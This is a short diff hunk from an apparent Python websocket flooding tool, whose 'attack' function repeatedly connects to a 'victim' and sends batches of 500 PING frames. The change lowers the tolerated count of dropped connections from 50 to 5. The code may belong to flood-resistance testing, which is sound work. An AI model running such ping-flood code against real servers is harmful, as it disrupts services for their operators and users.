@@ -9,7 +9,7 @@ _AT_ONCE = 500
 async def attack(victim: Victim, most: int) -> Told:
     told = Told()
     ping = frame(b"x" * 125, PING) * _AT_ONCE
-    while told.sent < most and sum(told.cuts.values()) < 50:
+    while told.sent < most and sum(told.cuts.values()) < 5:
         try:
             async with web_socket(victim) as socket:
                 while told.sent < most and await socket.send(ping):
